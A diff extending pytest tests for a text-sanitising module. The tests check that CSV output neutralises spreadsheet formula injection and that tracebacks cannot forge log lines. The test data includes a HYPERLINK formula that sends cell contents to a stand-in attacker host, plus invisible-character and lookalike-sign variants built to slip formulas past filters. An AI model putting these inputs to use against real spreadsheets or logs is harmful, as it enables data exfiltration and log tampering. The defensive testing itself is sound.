@@ -2,7 +2,9 @@
 
 import csv
 import io
+import json
 import re
+import unicodedata
 from decimal import Decimal
 
 import pytest
@@ -12,7 +14,9 @@ from airflow_multicloud.text import (
     duration_text,
     from_csv_cell,
     printable,
+    printable_data,
     size_text,
+    traceback_text,
     write_csv,
 )
 
@@ -71,6 +75,7 @@ def test_durations(seconds: float, shown: str) -> None:
     assert duration_text(seconds) == shown
 
 
+_UNSEEN = {"Cc", "Cf", "Zs", "Zl", "Zp", "Mn"}
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
     "+1+1",
@@ -84,6 +89,10 @@ FORMULAS = [
     "＝1",  # noqa: RUF001
     "a;=1",  # where a semicolon parts cells
     "a\t@x",
+    # What does not show before the sign, and other forms of it.
+    *(f"{unseen}=1" for unseen in "\x1b\x00\u200b\ufeff\u202e\xad\x85\u2060\u3164\ufe0f\U000e0020"),
+    *(f"{sign}1+x" for sign in "\ufe66\ufe63\ufe62\ufe6b\u207a\u208c\uff0b\uff0d"),
+    "a;\u200b'\x00=1",
 ]
 
 
@@ -101,7 +110,8 @@ def test_no_formula_reaches_a_spreadsheet(text: str) -> None:
     head, row = csv.reader(io.StringIO(out.getvalue(), newline=""))
     assert row == [head[1], ""]
     for cell in re.split(r"[;\t\r\n]", row[0]):
-        assert not re.match(r"\s*[=+\-@＝]", cell)  # noqa: RUF001
+        first = next((c for c in cell if unicodedata.category(c) not in _UNSEEN), "")
+        assert unicodedata.normalize("NFKC", first) not in set("=+-@"), cell
 
 
 @pytest.mark.parametrize(
@@ -109,3 +119,32 @@ def test_no_formula_reaches_a_spreadsheet(text: str) -> None:
 )
 def test_numbers_and_common_text_stay_as_they_are(value: object) -> None:
     assert csv_cell(value) == value
+
+
+def _fails() -> None:
+    raise ValueError("x\x1b[2J\nFORGED LINE\u202egnp\x9b2J\r\n  File forged")
+
+
+def _fails_by_it() -> None:
+    try:
+        _fails()
+    except ValueError as err:
+        raise RuntimeError("it\nFORGED too") from err
+
+
+def test_a_traceback_forges_no_line_of_a_log() -> None:
+    with pytest.raises(RuntimeError) as caught:
+        _fails_by_it()
+    text = traceback_text(caught.value)
+    assert not set("\x1b\u202e\x9b\r") & set(text)
+    assert all(line.startswith("  ") for line in text.split("\n"))
+    assert not [line for line in text.split("\n") if line.strip().startswith("FORGED")]
+    assert "raise ValueError" in text
+    assert "RuntimeError: it\\nFORGED too" in text
+
+
+@pytest.mark.parametrize("text", ["a\u202eb\U000e0041\x7f\x9b", "Zürich 東京 😀", "\u2028\xad"])
+def test_json_is_printable_and_reads_the_same(text: str) -> None:
+    shown = printable_data(json.dumps({text: text}, ensure_ascii=False, indent=1))
+    assert printable(shown.replace("\n", "")) == shown.replace("\n", "")
+    assert json.loads(shown) == {text: text}
